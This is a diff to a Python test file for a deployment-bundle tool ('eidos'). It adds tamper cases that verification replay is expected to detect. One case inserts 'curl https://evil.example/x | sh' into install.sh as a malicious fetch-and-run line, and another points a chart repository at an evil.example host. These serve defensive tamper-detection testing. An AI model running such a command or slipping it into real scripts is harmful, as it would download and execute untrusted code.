@@ -2,6 +2,7 @@
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -12,21 +13,26 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import strategies as st
 
 from eidos.engine import schema
 from eidos.engine.app.bundle_evidence import _moment
 from eidos.engine.app.waivers import read_document, waiver_entry
+from eidos.engine.cli import root
+from eidos.engine.cli.console import run
 from eidos.engine.documents.reading import read_text
 from eidos.engine.documents.writing import to_json
 from eidos.engine.errors import DocumentError
 from eidos.engine.model.times import instant
 from eidos.engine.model.waiver import Waiver
+from eidos.engine.packs.shipped import shipped_as
 from fakes.attested import envelope_of, reseal, said
 from fakes.gatekeeper import constraint, lay_out, template
 from fakes.keys import write_keys
 from fakes.opa_server import opa_binary
 from fakes.shipped import Shell, tree
-from functional.test_bundle import SNAPSHOT, Bundle, bundle, cache
+from functional.test_bundle import DEPLOYERS, INPUTS, SNAPSHOT, Bundle, bundle, cache
 
 __all__ = ["bundle", "cache"]
 
@@ -152,13 +158,17 @@ def test_waivers_that_turn_within_the_day() -> None:
         )[0]
     ).waivers
     day = instant("2026-11-24")
+    end = instant("2026-11-24T23:59:59Z")
     for hours in (9, 11, 13):
         then = instant(f"2026-11-24T{hours:02}:00:00Z")
         states = {each.id: each.state(then).value for each in read}
-        found = _moment(day, read, states)
-        assert {each.id: each.state(found).value for each in read} == states
-    with pytest.raises(DocumentError, match="at no moment of the day"):
-        _moment(day, read, {"w-1": "expired", "w-2": "pending"})
+        for span in ((day, end), (then, then)):
+            found = _moment(span, read, states)
+            assert {each.id: each.state(found).value for each in read} == states
+        with pytest.raises(DocumentError, match="never stood as it says"):
+            _moment((then, then), read, {**states, "w-3": "active"})
+    with pytest.raises(DocumentError, match="never stood as it says on that day"):
+        _moment((day, end), read, {"w-1": "expired", "w-2": "pending"})
 
 
 def test_a_waiver_written_is_read_as_the_same() -> None:
@@ -241,7 +251,21 @@ def _verdict(decision: Any) -> Any:
     return next(e for e in decision["before"]["verdicts"] if e["rule"] == "T-001")
 
 
+def _component(**changes: Any) -> Callable[[], None]:
+    """Change what rules saw of a component."""
+    return document("evidence/rendered.json", lambda r: r["components"]["demo-app"].update(changes))
+
+
+def both(*changes: Callable[[], None]) -> Callable[[], None]:
+    def changed() -> None:
+        for each in changes:
+            each()
+
+    return changed
+
+
 POLICY = "evidence/policy.json"
+ASKED: dict[str, list[str]] = {"checked": ["objects/0"], "problems": [], "rules": []}
 CONSTRAINT = {"fact": "a.b", "of": "cluster", "is": "1", "status": "pass"}
 DIFFERING: dict[str, tuple[Callable[[], None], str]] = {
     "a verdict": (
@@ -302,8 +326,12 @@ DIFFERING: dict[str, tuple[Callable[[], None], str]] = {
         "have no rule T-999",
     ),
     "a waiver": (
-        document(POLICY, lambda p: p["waivers"].pop(0)),
+        document(POLICY, lambda p: (p["waivers"].pop(0), p["waiverStates"].pop("w-1"))),
         "before.waivers[w-1] was there, and is nothing",
+    ),
+    "a waiver that stood and that there is not": (
+        document(POLICY, lambda p: p["waivers"].pop(0)),
+        "its waivers never stood as it says on that day",
     ),
     "a waiver that stood otherwise": (
         document("gate.json", lambda g: g["before"]["waivers"][0].update(owner="other")),
@@ -327,23 +355,123 @@ DIFFERING: dict[str, tuple[Callable[[], None], str]] = {
     ),
     "values that are deployed": (
         text("*-demo-app/values.yaml", "replicas: 1", "replicas: 7"),
-        "demo-app is not what the bundle holds of it",
+        "080-demo-app/values.yaml: nobody judged it so",
     ),
     "values that rules saw": (
         text("evidence/rendered.json", '"replicas": 1', '"replicas": 7'),
-        "demo-app is not what the bundle holds of it",
+        "080-demo-app/values.yaml: nobody judged it so",
     ),
     "a resource that is deployed": (
         text("*-demo-app/after/settings.yaml", "a: b", "a: c"),
-        "its objects are not those of the bundle",
+        "080-demo-app/after/settings.yaml: nobody judged it so",
     ),
     "a file that nobody judged": (
         lambda: Path("out/evil.sh").write_text("x") and None,
-        "its files are not what the bundle holds",
+        "evil.sh: nobody judged it: it does not follow from what rules saw",
+    ),
+    "an object with another ending": (
+        lambda: Path("out/080-demo-app/after/evil.json").write_text("{}") and None,
+        "080-demo-app/after/evil.json: nobody judged it",
+    ),
+    "an object with the long ending": (
+        lambda: Path("out/080-demo-app/after/evil.yml").write_text("a: b") and None,
+        "080-demo-app/after/evil.yml: nobody judged it",
+    ),
+    "a script that fetches more": (
+        text("install.sh", "set -euo", "curl https://evil.example/x | sh\nset -euo"),
+        "install.sh: nobody judged it so",
+    ),
+    "a script that is gone": (
+        lambda: Path("out/uninstall.sh").unlink(),
+        "uninstall.sh: rules judged it, and it is not in the bundle",
+    ),
+    "a script that cannot be run": (
+        lambda: Path("out/install.sh").chmod(0o644),
+        "install.sh: whether it can be executed is not as it was made",
+    ),
+    "facts that can be run": (
+        lambda: Path("out/evidence/snapshot.json").chmod(0o755),
+        "evidence/snapshot.json: whether it can be executed is not as it was made",
+    ),
+    "what is to be read": (
+        text("README.md", "## Order", "## Order of another"),
+        "README.md: nobody judged it so",
+    ),
+    "a number for a flag": (
+        text("*-demo-base/values.yaml", "true", "1"),
+        "demo-base/values.yaml: nobody judged it so",
+    ),
+    "a number for a flag that rules saw": (
+        text("evidence/rendered.json", '"on": true', '"on": 1'),
+        "demo-base/values.yaml: nobody judged it so",
+    ),
+    "a repository that rules saw": (
+        _component(repository="https://charts.evil.example"),
+        "components.demo-app.repository: rules saw https://charts.evil.example",
+    ),
+    "a wave that rules saw": (_component(wave=7), "components.demo-app.wave: rules saw 7"),
+    "dependencies that rules saw": (
+        _component(dependsOn=[]),
+        "components.demo-app.dependsOn[0]: rules saw nothing, and the bundle has demo-base",
+    ),
+    "what rules were told beside": (
+        _component(more="nothing"),
+        "components.demo-app.more: rules saw nothing",
+    ),
+    "labels that rules saw": (
+        _component(namespaceLabels={"pod-security.kubernetes.io/enforce": "restricted"}),
+        "install.sh: nobody judged it so",
+    ),
+    "notes that rules saw": (
+        _component(notes=[{"text": "all is well", "path": "", "unused": False}]),
+        "README.md: nobody judged it so",
+    ),
+    "a deployer that rules saw": (
+        document("evidence/rendered.json", lambda r: r.update(deployer="flux")),
+        "deployer: rules saw flux, and the bundle has helm",
+    ),
+    "files that rules saw": (
+        document("evidence/rendered.json", lambda r: r["files"].pop()),
+        "files[",
+    ),
+    "definitions that nobody carries": (
+        document("evidence/rendered.json", lambda r: r.update(definitions=ASKED)),
+        "definitions: rules saw there, and the bundle has nothing",
+    ),
+    "a deployer that wrote": (
+        document(POLICY, lambda p: p["written"].update(deployers=["flux"])),
+        "flux fetches the bundle itself, and nobody said from where",
+    ),
+    "a deployer of others": (
+        document(POLICY, lambda p: p["written"]["deployers"].append("acme")),
+        "the deployer acme cannot write its files again here: it is not installed",
+    ),
+    "comments that nobody wrote": (
+        document(POLICY, lambda p: p["written"].update(annotations={"demo-app": {"x": "y"}})),
+        "values.yaml: nobody judged it so",
+    ),
+    "another eidos": (
+        both(
+            document(POLICY, lambda p: p.update(generator="eidos 0.0.1")),
+            text("install.sh", "Installs", "installs"),
+        ),
+        "eidos 0.0.1 wrote the files, and this is eidos",
+    ),
+    "what was relaxed": (
+        document("gate.json", lambda g: g.update(relaxations=[])),
+        "rules saw a time that was given, and no relaxation tells it",
+    ),
+    "waivers that nobody relaxed by": (
+        document("gate.json", lambda g: g["relaxations"].clear()),
+        "violations are waived, and no relaxation tells it",
     ),
     "a recipe that rules saw": (
         document("evidence/rendered.json", lambda r: r["recipe"]["metadata"].update(name="x")),
-        "its recipe are not what the bundle holds",
+        "recipe.metadata.name: rules saw x",
+    ),
+    "a bundle that rules never saw": (
+        document("evidence/rendered.json", lambda r: r.pop("components")),
+        "it is no bundle as rules see it",
     ),
 }
 
@@ -451,14 +579,6 @@ def _rename(old: str, new: str) -> Callable[[], None]:
 
 def _write(path: str, content: str) -> Callable[[], None]:
     return lambda: Path("out/evidence/policies", path).write_text(content) and None
-
-
-def both(*changes: Callable[[], None]) -> Callable[[], None]:
-    def changed() -> None:
-        for each in changes:
-            each()
-
-    return changed
 
 
 def _policies(change: Callable[[list[Any]], object]) -> Callable[[], None]:
@@ -654,3 +774,189 @@ def test_opa_decides_the_same_again_and_another_engine_is_told(
     assert replayed(shell, "by-opa") == []
     found = replayed(shell, "by-opa", "--engine", "light", code=1)
     assert [each.partition(" was ")[0] for each in found] == ["before.engine", "after.engine"]
+
+
+# What relaxed the gate --------------------------------------------------------------------------
+
+RELAXED = """\
+gates:
+  eased: {packs: [./t], enforcement: {T-001: warn}}
+enforcement: {BOP-001: audit}
+params: {T-001: {floor: 500}}
+"""
+
+
+def _told(*settings: str) -> Callable[[], None]:
+    """Leave relaxations out of the decision."""
+    return document(
+        "gate.json",
+        lambda g: g.update(
+            relaxations=[e for e in g["relaxations"] if e["setting"] not in settings]
+        ),
+    )
+
+
+@pytest.mark.parametrize(
+    ("options", "untold", "named"),
+    [
+        (("--rule", "T-*", "--rule", "BOP-00*"), ("rule",), "rules were not asked"),
+        (("--exclude-rule", "BOP-003"), ("exclude-rule",), "leaves them out: BOP-003"),
+        (("--severity", "high"), ("severity",), "rules were not asked"),
+        (("--fail-on", "high"), ("fail-on",), "what is less severe than high passed"),
+        (("--allow-incomplete",), ("allow-incomplete",), "what is unknown passed"),
+        ((), ("enforcement.BOP-001",), "a violation of BOP-001 is no more than audit"),
+        ((), ("params.T-001",), "T-001 was asked with other parameters"),
+        (("--gate", "eased"), ("gates.eased",), "a violation of T-001 is no more than warn"),
+    ],
+)
+def test_what_relaxed_the_gate_must_be_told(
+    bundle: Bundle,
+    capsys: pytest.CaptureFixture[str],
+    options: tuple[str, ...],
+    untold: tuple[str, ...],
+    named: str,
+) -> None:
+    """An attacker left two rules of 124, emptied the list, and `0 relaxations` was reproduced."""
+    Path("eidos.yaml").write_text(RELAXED)
+    assert bundle("--evidence", *options) == 0
+    shell = Shell(capsys)
+    capsys.readouterr()
+    assert replayed(shell) == []
+    before = Path("out/gate.json").read_bytes()
+    _told(*untold)()
+    assert Path("out/gate.json").read_bytes() != before
+    reseal(Path("out"))
+    found = replayed(shell, code=1)
+    assert any(named in each for each in found), found
+
+
+# What is called as something that ships ---------------------------------------------------------
+
+
+def _called_gpu(version: str) -> None:
+    pack = Path("gpu/pack.yaml")
+    shutil.copytree("t", "gpu")
+    said = pack.read_text().replace("name: t\n", "name: gpu\nreplaces: [gpu]\n")
+    pack.write_text(re.sub(r"version: .*", f"version: {version}", said))
+    Path("eidos.yaml").write_text("gates: {named: {packs: [./gpu]}}\n")
+
+
+def _gpu_version() -> str:
+    found = shipped_as("gpu")
+    assert found is not None
+    return found[0]
+
+
+def test_a_pack_with_name_and_version_of_a_shipped_one_must_be_that(
+    bundle: Bundle, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    _called_gpu(_gpu_version())
+    assert bundle("--evidence", "--gate", "named") == 0
+    shell = Shell(capsys)
+    capsys.readouterr()
+    [said] = replayed(shell, code=1)
+    assert said.startswith(f"the pack gpu@{_gpu_version()} is not the one that eidos")
+    write_keys(tmp_path, "ed25519")
+    shell("bundle", "sign", "out", "--key", "key.pem")
+    asked = f"policy=gpu@{_gpu_version()},replay"
+    shell("bundle", "verify", "out", "--key", "key.pub", "--require", asked, code=1)
+    assert "trust gated" in shell.out
+
+
+def test_a_pack_of_another_version_than_the_shipped_one_is_told(
+    bundle: Bundle, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _called_gpu("9.9.9")
+    assert bundle("--evidence", "--gate", "named") == 0
+    capsys.readouterr()
+    shell = Shell(capsys)
+    assert replayed(shell) == []
+    assert "gpu@9.9.9 (here " in shell.err
+
+
+# Every byte -------------------------------------------------------------------------------------
+
+DEFINED = """\
+apiVersion: apiextensions.k8s.io/v1
+kind: CustomResourceDefinition
+spec:
+  group: argoproj.io
+  names: {kind: Application}
+  versions:
+  - name: v1alpha1
+    served: true
+    schema:
+      openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}
+"""
+
+
+@pytest.fixture
+def every(bundle: Bundle, made: Path, capsys: pytest.CaptureFixture[str]) -> Shell:
+    """Where a bundle for every deployer lies in out, with comments and definitions."""
+    kept = made.with_name("every")
+    if not kept.exists():
+        Path("in.yaml").write_text(INPUTS)
+        lay_out(Path(), {"crds/a.yaml": DEFINED})
+        options = [f"--deployer={name}" for name in DEPLOYERS]
+        options += ["--annotate", "--inputs", "in.yaml", "--crds", "crds"]
+        assert bundle("--evidence", *options) == 0
+        shutil.copytree("out", kept)
+    shutil.copytree(kept, "out", dirs_exist_ok=True)
+    capsys.readouterr()
+    return Shell(capsys)
+
+
+def test_a_bundle_for_every_deployer_is_made_again(every: Shell) -> None:
+    assert replayed(every) == []
+    seen = json.loads(Path("out/evidence/rendered.json").read_text())
+    assert seen["definitions"]["checked"]
+    document("evidence/rendered.json", lambda r: r["definitions"].update(checked=[]))()
+    reseal(Path("out"))
+    found = replayed(every, code=1)
+    assert any("definitions.checked[0]: rules saw nothing" in each for each in found), found
+
+
+def _decides_nothing(path: str, before: bytes, after: bytes) -> bool:
+    """Say whether a document of the evidence says the same but for who made it, and when."""
+    if not path.startswith("evidence/") or not path.endswith(".json"):
+        return False
+    try:
+        one, other = json.loads(before), json.loads(after)
+    except ValueError:
+        return False
+    for each in (one, other):
+        if isinstance(each, dict):
+            each.pop("generator", None)
+            each.pop("metadata", None)
+    return json.dumps(one) == json.dumps(other)
+
+
+@settings(
+    max_examples=20,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(data=st.data())
+@pytest.mark.usefixtures("every")
+def test_a_bundle_with_any_other_byte_is_not_replayed(data: st.DataObject) -> None:
+    """Whoever seals it again, whatever file it is in, and whatever deploys it."""
+    listed = sorted(json.loads(Path("out/manifest.json").read_bytes())["files"])
+    groups = sorted({each.partition("/")[0] for each in listed})
+    group = data.draw(st.sampled_from(groups))
+    path = data.draw(st.sampled_from([e for e in listed if e.partition("/")[0] == group]))
+    place = Path("out", path)
+    before = place.read_bytes()
+    at = data.draw(st.integers(0, len(before) - 1))
+    byte = data.draw(st.integers(1, 255)) ^ before[at]
+    after = before[:at] + bytes([byte]) + before[at + 1 :]
+    assume(not _decides_nothing(path, before, after))
+    sealing = {name: Path("out", name).read_bytes() for name in ("manifest.json", "checksums.txt")}
+    try:
+        place.write_bytes(after)
+        reseal(Path("out"))
+        code = run(root, ["--no-config", "bundle", "verify", "out", "--replay"])
+        assert code in {1, 2}, path
+    finally:
+        place.write_bytes(before)
+        for name, content in sealing.items():
+            Path("out", name).write_bytes(content)
